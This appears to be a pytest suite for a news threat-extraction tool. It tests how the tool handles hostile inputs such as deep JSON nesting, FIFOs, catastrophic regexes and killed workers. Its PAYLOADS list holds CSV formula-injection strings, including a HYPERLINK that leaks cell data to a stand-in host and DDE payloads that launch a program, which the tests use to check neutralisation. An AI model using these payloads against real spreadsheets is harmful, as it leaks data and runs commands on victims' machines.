"""Hostile input and failure (issue 9): one test per finding of the hostile probe, each
written from the finding's description. None of these inputs may end a batch, hang, read
without limit or be lost without a recorded skip or warning."""

from __future__ import annotations

import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import tocsin.fields as fields_module
from tocsin.budget import OverBudget, time_limit
from tocsin.cli import cli
from tocsin.dates import find_dates, resolve, shift
from tocsin.ingest import content_id, decode_bytes, iter_inputs, read_documents
from tocsin.model import (
    Article,
    DocumentResult,
    Event,
    EventDate,
    Paragraph,
    RawDocument,
    Sentence,
    Skipped,
)
from tocsin.pipeline import extract_paths, process_item
from tocsin.settings import Settings
from tocsin.store import open_store

from .conftest import EXAMPLES
from .test_regex_audit import KNOWN_CATASTROPHIC

S = Settings()
NUCLEAR = ("Russia will station tactical nuclear weapons in Belarus, President Vladimir Putin "
           "said on Saturday, and the Kremlin warned that NATO would face a nuclear response.")
# (with the learned layer, an article of one sentence gives no event: tests use two)
ARTICLE = NUCLEAR + "\n" + NUCLEAR.replace("Saturday", "Sunday") + "\n"


def items(*paths: Path | str, settings: Settings = S) -> list[RawDocument | Skipped]:
    return list(read_documents([str(p) for p in paths], settings))


def within(seconds: float, fn: Callable[[], Any]) -> Any:
    """fn() in a thread; fails (instead of hanging the suite) when it takes longer."""
    box: dict[str, Any] = {}

    def target() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            box["error"] = exc

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"still running after {seconds} s"
    if "error" in box:
        raise box["error"]
    return box["value"]


def reasons(found: list[RawDocument | Skipped]) -> list[str]:
    return [f"{i.stage}: {i.reason}" for i in found if isinstance(i, Skipped)]


# -- records ---------------------------------------------------------------------------------


def test_deeply_nested_json_line_is_a_skip_and_the_next_record_is_read(tmp_path: Path
                                                                       ) -> None:
    p = tmp_path / "feed.jsonl"
    p.write_text("[" * 100_000 + "\n" + json.dumps({"text": NUCLEAR}) + "\n", encoding="utf-8")
    first, second = items(p)
    assert isinstance(first, Skipped) and "nested too deeply" in first.reason
    assert first.doc == f"{p}#1"
    assert isinstance(second, RawDocument) and second.content == NUCLEAR


def test_lone_surrogate_in_json_is_replaced_with_a_warning_and_stored(tmp_path: Path) -> None:
    p = tmp_path / "feed.jsonl"
    line = '{"text": "' + NUCLEAR + ' \\ud800 end.", "title": "t\\udfff"}\n'
    p.write_text(line, encoding="utf-8")
    (raw,) = items(p)
    assert isinstance(raw, RawDocument)
    assert "\ud800" not in raw.content and "\ufffd" in raw.content and raw.title == "t\ufffd"
    assert any("surrogate" in n.reason for n in raw.notes)
    result = process_item(raw, S)
    assert result.skipped is None and result.events
    with open_store(tmp_path / "t.db") as store:
        assert store.save(result, store.begin_run(S, [str(p)]))
        with store.engine.connect() as conn:
            stored = conn.exec_driver_sql("SELECT reason FROM skips").scalars().all()
    assert any("surrogate" in r for r in stored)


def test_content_id_of_text_with_a_lone_surrogate_does_not_raise() -> None:
    # found by the fuzz targets: a RawDocument built through the API with "\ud800"
    assert content_id("text", "a\ud800b") != content_id("text", "a\ufffdb")


def test_json_line_separators_inside_strings_do_not_split_records(tmp_path: Path) -> None:
    # found by the ingest fuzz target: str.splitlines() split a record at a raw U+2028
    p = tmp_path / "feed.jsonl"
    p.write_text(json.dumps({"text": NUCLEAR + "\u2028" + NUCLEAR}, ensure_ascii=False) + "\n",
                 encoding="utf-8")
    (raw,) = items(p)
    assert isinstance(raw, RawDocument) and "\u2028" in raw.content


def test_paragraph_over_a_million_characters_is_processed(tmp_path: Path) -> None:
    # Under the 2 M limit but over spaCy's 1 M: one paragraph of plain prose (no signal, so
    # only the sentence splitter runs and the test stays fast).
    text = ("The weather in the capital was mild on Tuesday and the markets were calm. "
            * 14_000)[:1_050_000]
    p = tmp_path / "big.jsonl"
    p.write_text(json.dumps({"text": text}) + "\n", encoding="utf-8")
    (result,) = within(120, lambda: list(extract_paths([str(p)], S)))
    assert result.skipped is None, result.skipped
    assert result.article is not None
    assert max(q.end - q.start for q in result.article.paragraphs) <= S.max_paragraph_chars
    assert any("split into pieces" in n.reason for n in result.notes)
    assert result.sentences[-1].end == len(text.rstrip())


# -- dates -----------------------------------------------------------------------------------


@pytest.mark.parametrize("expr,lang", [("hier", "fr"), ("yesterday", "en"), ("lundi", "fr"),
                                       ("sunday", "en"), ("last week", "en"),
                                       ("last month", "en"), ("last year", "en"),
                                       ("4 avril", "fr")])
def test_relative_dates_near_date_min_resolve_or_stay_unknown(expr: str, lang: str) -> None:
    for published in (date.min, date(1, 1, 3), date.max):
        out = resolve(expr, lang, published, None)
        assert out is None or (out.year or 1) >= 1


def test_publication_date_0001_01_01_processes_the_record(tmp_path: Path) -> None:
    p = tmp_path / "old.jsonl"
    p.write_text(json.dumps({"text": "Yesterday " + NUCLEAR + " On Monday Russia held "
                             "nuclear exercises.", "published": "0001-01-01"}) + "\n",
                 encoding="utf-8")
    (result,) = list(extract_paths([str(p)], S))
    assert result.skipped is None and result.events
    # 0001-01-01 is a Monday: "lundi" is that day, "hier" has no day before it
    found = find_dates("hier et lundi", 0, 13, "fr", date.min, (), None)
    assert [m.date for m in found] == [EventDate(1, 1, 1)]
    assert shift(EventDate(9999, 12, 31), 5) == EventDate(9999, 12, 31)


# -- paths and files -------------------------------------------------------------------------


def test_path_nested_beyond_the_system_limit_is_a_skip(tmp_path: Path) -> None:
    (tmp_path / "ok.txt").write_text(NUCLEAR, encoding="utf-8")
    fd = os.open(tmp_path, os.O_RDONLY)
    try:
        for _ in range(20):   # 20 x 250 characters > PATH_MAX (4096)
            name = "d" * 250
            os.mkdir(name, dir_fd=fd)
            new = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
        with open(os.open("deep.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fd), "w") as f:
            f.write(NUCLEAR)
    finally:
        os.close(fd)
    found = items(tmp_path)
    assert sum(isinstance(i, RawDocument) for i in found) == 1
    assert any("too long" in r for r in reasons(found)), reasons(found)


def test_fifo_given_as_a_path_is_a_skip_not_a_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    (item,) = within(10, lambda: items(fifo))
    assert isinstance(item, Skipped) and "not a regular file (FIFO)" in item.reason


def test_dev_zero_is_a_skip_not_an_unbounded_read() -> None:
    (item,) = within(10, lambda: items("/dev/zero"))
    assert isinstance(item, Skipped) and "character device" in item.reason


def test_file_larger_than_its_stat_size_is_counted_while_reading(tmp_path: Path) -> None:
    # /proc files report size 0 whatever they hold: the limit must hold while reading
    (item,) = items("/proc/self/maps", settings=S.with_(max_bytes=64))
    assert isinstance(item, Skipped) and "too large" in item.reason


def test_folder_walk_records_loops_special_files_and_broken_links(tmp_path: Path) -> None:
    root = tmp_path / "corpus"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "a.txt").write_text(NUCLEAR, encoding="utf-8")
    (root / "sub" / "loop").symlink_to(root)
    os.mkfifo(root / "pipe.txt")
    (root / "gone.txt").symlink_to(root / "missing.txt")
    found = items(root)
    docs = [i.doc for i in found if isinstance(i, RawDocument)]
    assert docs == [str(root / "sub" / "a.txt")]
    why = "\n".join(reasons(found))
    assert "symbolic link loop" in why and "FIFO" in why and "broken symbolic link" in why


def _walk_as_nobody(root: Path) -> list[str]:
    """iter_inputs in a forked child that runs as 'nobody' when we are root (root reads
    every folder; CI runs as root): file paths and skip reasons."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:   # the child: never returns into pytest
        try:
            if os.geteuid() == 0:
                os.setgid(65534)
                os.setuid(65534)
            found = [i.reason if isinstance(i, Skipped) else i[0] for i in iter_inputs([str(root)])]
            os.write(write, json.dumps(found).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as f:
        data = f.read()
    os.waitpid(pid, 0)
    return json.loads(data)


def test_unreadable_folder_is_a_recorded_skip() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "corpus"
        (root / "closed").mkdir(parents=True)
        (root / "closed" / "a.txt").write_text(NUCLEAR, encoding="utf-8")
        (root / "open.txt").write_text(NUCLEAR, encoding="utf-8")
        os.chmod(tmp, 0o755)
        os.chmod(root, 0o755)
        os.chmod(root / "closed", 0o000)
        try:
            found = _walk_as_nobody(root)
        finally:
            os.chmod(root / "closed", 0o755)
    assert found == ["unreadable folder: Permission denied", str(root / "open.txt")]


# -- encodings -------------------------------------------------------------------------------


def _ru_text() -> str:
    return (EXAMPLES / "corpus" / "ru_doktrina_2024.txt").read_text(encoding="utf-8")


def test_one_bad_byte_in_utf8_is_replaced_with_a_warning_not_a_legacy_decoding() -> None:
    text = _ru_text()
    out = decode_bytes(text.encode("utf-8") + b"\xff")
    assert not isinstance(out, str)
    assert out.encoding == "utf-8" and out.text == text + "\ufffd"
    assert out.notes == ("warning: 1 invalid UTF-8 byte(s) replaced with U+FFFD",)


def test_utf8_file_with_latin1_lines_keeps_its_utf8_text_and_events(tmp_path: Path) -> None:
    text = _ru_text()
    mixed = text.encode("utf-8") + "\nCafé crème à Genève.\n".encode("latin-1")
    (tmp_path / "clean.txt").write_bytes(text.encode("utf-8"))
    (tmp_path / "mixed.txt").write_bytes(mixed)
    clean, damaged = extract_paths([str(tmp_path / "clean.txt"), str(tmp_path / "mixed.txt")],
                                   S)
    assert damaged.article is not None and damaged.article.text.startswith(text)
    assert len(damaged.events) == len(clean.events) > 0
    assert any("invalid UTF-8" in n.reason for n in damaged.notes)


def test_legacy_encoded_file_is_still_detected() -> None:
    text = "La Défense a réagi à l'annonce du déploiement d'armes nucléaires tactiques."
    out = decode_bytes(text.encode("cp1252"))
    assert not isinstance(out, str) and out.text == text and not out.notes


@pytest.mark.parametrize("enc", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_detected(enc: str) -> None:
    for text in (NUCLEAR, _ru_text()):
        out = decode_bytes(text.encode(enc))
        assert not isinstance(out, str), out
        assert out.encoding == enc and out.text == text


def test_nul_bytes_are_handled_the_same_wherever_they_are() -> None:
    body = (NUCLEAR + "\n").encode("utf-8") * 800   # ~150 KB
    early = decode_bytes(body[:100] + b"\x00" + body[100:])
    late = decode_bytes(body[:100_000] + b"\x00" + body[100_000:])
    assert not isinstance(early, str) and not isinstance(late, str)
    assert "\x00" not in early.text and "\x00" not in late.text
    assert early.notes == late.notes != ()
    binary = bytes(range(256)) * 400
    assert isinstance(decode_bytes(body + binary), str)
    assert isinstance(decode_bytes(binary + body), str)


# -- cost ------------------------------------------------------------------------------------


def test_long_paragraph_cost_is_linear() -> None:
    # 160 K characters of signal sentences in one paragraph took ~35 s when the cost was
    # quadratic (8.8 s at 80 K); cut into pieces it takes a few seconds.
    text = (NUCLEAR + " ") * (160_000 // (len(NUCLEAR) + 1))
    raw = RawDocument("long.txt", content_id("text", text), text)
    process_item(RawDocument("warm.txt", content_id("text", NUCLEAR), NUCLEAR), S)
    t0 = time.perf_counter()
    result = process_item(raw, S)
    seconds = time.perf_counter() - t0
    assert result.skipped is None and len(result.events) > 100
    assert seconds < 20, f"{seconds:.1f} s for 160 K characters"


def test_time_budget_turns_a_slow_document_into_a_skip() -> None:
    text = (NUCLEAR + " ") * 400
    raw = RawDocument("slow.txt", content_id("text", text), text)
    result = process_item(raw, S.with_(max_seconds=0.01))
    assert result.skipped is not None and result.skipped.stage == "extract"
    assert "time budget" in result.skipped.reason and result.events == ()


@pytest.mark.skipif(fields_module.QUOTE_RE.pattern != KNOWN_CATASTROPHIC.get(
    "tocsin.fields.QUOTE_RE"), reason="fields.QUOTE_RE has been made linear")
def test_a_catastrophic_regex_is_stopped_by_the_time_budget() -> None:
    # fields.QUOTE_RE backtracks cubically on a quote followed by a run of spaces (see
    # tests/test_regex_audit.py): this article takes ~35 s; the budget stops it mid-regex.
    bad = NUCLEAR.replace("said", "said «" + "\u00a0" * 1500 + "x")
    text = bad + "\n" + NUCLEAR + "\n"
    t0 = time.perf_counter()
    result = process_item(RawDocument("q.txt", content_id("text", text), text),
                          S.with_(max_seconds=2.0))
    assert time.perf_counter() - t0 < 6
    assert result.skipped is not None and "time budget of 2 s" in result.skipped.reason


def test_the_time_budget_interrupts_a_regex_midway() -> None:
    catastrophic = re.compile(r"(a+)+$")
    t0 = time.perf_counter()
    with pytest.raises(OverBudget), time_limit(0.5):
        catastrophic.match("a" * 40 + "b")   # 2**40 steps
    assert time.perf_counter() - t0 < 2


def test_the_time_budget_stops_a_long_document_near_the_budget() -> None:
    text = (NUCLEAR + " ") * (160_000 // (len(NUCLEAR) + 1))   # ~8 s of work
    t0 = time.perf_counter()
    result = process_item(RawDocument("long.txt", content_id("text", text), text),
                          S.with_(max_seconds=1.0))
    # the work takes ~8 s; stopping within 4 s of a 1 s budget leaves room for a loaded CI
    # machine (3.2 s was seen there once) while a budget that is not enforced still fails
    assert time.perf_counter() - t0 < 4
    assert result.skipped is not None and "time budget of 1 s" in result.skipped.reason


# -- output ----------------------------------------------------------------------------------


def _db_with_sentences(path: Path, sentences: list[str], doc: str = "news.txt") -> str:
    text = " ".join(sentences)
    cid = content_id("text", text)
    article = Article(doc, cid, text, "en", (Paragraph(0, len(text), "en"),))
    events, sents, start = [], [], 0
    for i, s in enumerate(sentences):
        sents.append(Sentence(start, start + len(s), 0))
        events.append(Event(f"e{i}", doc, cid, "threat", (start, start + len(s)), s, None,
                            None, None, None, EventDate(2024, 1, 1), "asserted", None, None,
                            0.9, "en"))
        start += len(s) + 1
    with open_store(path) as store:
        store.save(DocumentResult(doc, cid, article, tuple(sents), tuple(events)),
                   store.begin_run(S, [doc]))
    return str(path)


PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1 nuclear"]


def test_csv_export_neutralises_formula_payloads(tmp_path: Path) -> None:
    import csv
    import io

    db = _db_with_sentences(tmp_path / "t.db", PAYLOADS, doc="=cmd.txt")
    out = CliRunner().invoke(cli, ["events", "--db", db, "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert sorted(r["sentence"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert {r["doc"] for r in rows} == {"'=cmd.txt"}


def test_rich_markup_in_sentences_and_file_names_prints_as_text(tmp_path: Path) -> None:
    sentence = "Russia threatened a nuclear strike [/] on [bold]Kyiv[/bold]."
    db = _db_with_sentences(tmp_path / "t.db", [sentence], doc="report[red].txt")
    out = CliRunner().invoke(cli, ["events", "--db", db])
    assert out.exit_code == 0, out.output
    assert "report[red].txt" in out.output and "[bold]Kyiv[/bold]" in out.output
    doc = tmp_path / "x[bold].txt"
    marked = NUCLEAR.replace("Russia will", "Russia [/] [bold]will[/bold]")
    doc.write_text(marked + "\n" + NUCLEAR + "\n", encoding="utf-8")
    out = CliRunner().invoke(cli, ["extract", str(doc), "--format", "table"])
    assert out.exit_code == 0, out.output
    assert "x[bold].txt" in out.output and "Russia [/] [bold]will[/bold]" in out.output


# -- languages -------------------------------------------------------------------------------


GERMAN = ("Russland wird taktische Atomwaffen in Belarus stationieren, sagte Präsident "
          "Wladimir Putin am Samstag in einem Fernsehinterview. Die NATO verurteilte die "
          "nukleare Drohung als gefährliche Eskalation und kündigte Beratungen an.\n") * 3


def test_german_article_is_skipped_as_unsupported_not_read_as_english() -> None:
    raw = RawDocument("de.txt", content_id("text", GERMAN), GERMAN)
    result = process_item(raw, S)
    assert result.skipped is not None and result.events == ()
    assert result.skipped.reason.startswith("unsupported language 'de'")


# -- failures and interruptions --------------------------------------------------------------


def test_an_unexpected_exception_in_one_document_is_a_skip_and_the_batch_goes_on(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    # Fault injection: a bug that fires on one document only.
    import tocsin.pipeline as pipeline

    real = pipeline.extract_events

    def buggy(article: Article, *args: Any) -> Any:
        if "BOOM" in article.text:
            raise KeyError("boom")
        return real(article, *args)

    monkeypatch.setattr(pipeline, "extract_events", buggy)
    (tmp_path / "a.txt").write_text(ARTICLE + " BOOM", encoding="utf-8")
    (tmp_path / "b.txt").write_text(ARTICLE, encoding="utf-8")
    first, second = extract_paths([str(tmp_path)], S)
    assert first.skipped is not None and first.skipped.stage == "error"
    assert first.skipped.reason.startswith("unexpected KeyError: 'boom'")
    assert "Traceback" in caplog.text
    assert second.skipped is None and second.events


_BEGIN_AND_HANG = """
import sys, time
from tocsin.settings import Settings
from tocsin.store import open_store
store = open_store(sys.argv[1])
store.begin_run(Settings(), ["x"])
print("started", flush=True)
time.sleep(600)
"""


def test_run_killed_by_sigkill_is_marked_interrupted_at_the_next_start(tmp_path: Path) -> None:
    db = tmp_path / "t.db"
    proc = subprocess.Popen([sys.executable, "-c", _BEGIN_AND_HANG, str(db)],
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "started"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.txt").write_text(ARTICLE, encoding="utf-8")
    out = CliRunner().invoke(cli, ["run", str(tmp_path / "c"), "--db", str(db)])
    assert out.exit_code == 0, out.output
    with sqlite3.connect(db) as con:
        statuses = con.execute("SELECT id, status FROM runs ORDER BY id").fetchall()
        n_stories = con.execute("SELECT count(*) FROM stories").fetchone()[0]
    assert statuses == [(1, "interrupted"), (2, "done")]
    assert n_stories > 0


def test_a_live_run_is_not_marked_interrupted(tmp_path: Path) -> None:
    with open_store(tmp_path / "t.db") as store:
        run = store.begin_run(S, [])
        proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
        try:
            with store.engine.begin() as conn:   # a run of another live process
                conn.exec_driver_sql(f"UPDATE runs SET pid = {proc.pid} WHERE id = {run}")
            assert store.mark_interrupted_runs() == []
        finally:
            proc.kill()
            proc.wait()
        assert store.mark_interrupted_runs() == [run]


def test_walk_skips_are_stored_by_a_run(tmp_path: Path) -> None:
    root = tmp_path / "c"
    root.mkdir()
    (root / "a.txt").write_text(NUCLEAR, encoding="utf-8")
    os.mkfifo(root / "pipe.txt")
    db = tmp_path / "t.db"
    out = CliRunner().invoke(cli, ["run", str(root), "--db", str(db)])
    assert out.exit_code == 0, out.output
    with sqlite3.connect(db) as con:
        rows = con.execute("SELECT doc, stage, reason FROM skips").fetchall()
    assert (str(root / "pipe.txt"), "ingest",
            "not a regular file (FIFO); Tocsin reads regular files only") in rows
    assert list(iter_inputs([str(root)]))[0] == (str(root / "a.txt"), root / "a.txt")


def test_signal_text_past_the_parse_cap_is_split_only_with_a_warning() -> None:
    text = (NUCLEAR + " ") * (60_000 // (len(NUCLEAR) + 1))
    raw = RawDocument("long.txt", content_id("text", text), text)
    result = process_item(raw, S.with_(max_parsed_chars=20_000))
    assert result.skipped is None and result.events
    assert max(e.span[1] for e in result.events) <= 20_000 + S.max_paragraph_chars
    assert result.sentences[-1].end == len(text.rstrip())   # the rest is still split
    assert any("not parsed" in n.reason for n in result.notes)


def _die_on_marker(item: RawDocument | Skipped, settings: Settings) -> DocumentResult:
    if isinstance(item, RawDocument) and "DIE" in item.content:
        os._exit(137)   # what the out-of-memory killer does to a worker
    return process_item(item, settings)


def test_a_worker_process_that_dies_costs_one_document_not_the_batch(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Fault injection: workers are forked, so they inherit the patched function.
    import tocsin.cli as cli_module

    monkeypatch.setattr(cli_module, "process_item", _die_on_marker)
    for i in range(5):
        (tmp_path / f"{i}.txt").write_text(ARTICLE + (" DIE" if i == 1 else f" {i}."),
                                           encoding="utf-8")
    out = list(cli_module._results((str(tmp_path),), S, workers=2))
    results = [r for _, r in out]
    assert [r.doc for r in results if r] == [str(tmp_path / f"{i}.txt") for i in range(5)]
    dead = results[1]
    assert dead is not None and dead.skipped is not None
    assert "worker process died" in dead.skipped.reason
    assert all(r is not None and r.skipped is None and r.events
               for i, r in enumerate(results) if i != 1)


def test_a_configuration_error_stops_the_run_instead_of_skipping_every_document(
        tmp_path: Path) -> None:
    from tocsin.errors import KnowledgeBaseError

    (tmp_path / "kb").mkdir()   # a knowledge base without its files
    (tmp_path / "a.txt").write_text(ARTICLE, encoding="utf-8")
    with pytest.raises(KnowledgeBaseError):
        list(extract_paths([str(tmp_path / "a.txt")], S.with_(kb_dir=str(tmp_path / "kb"))))
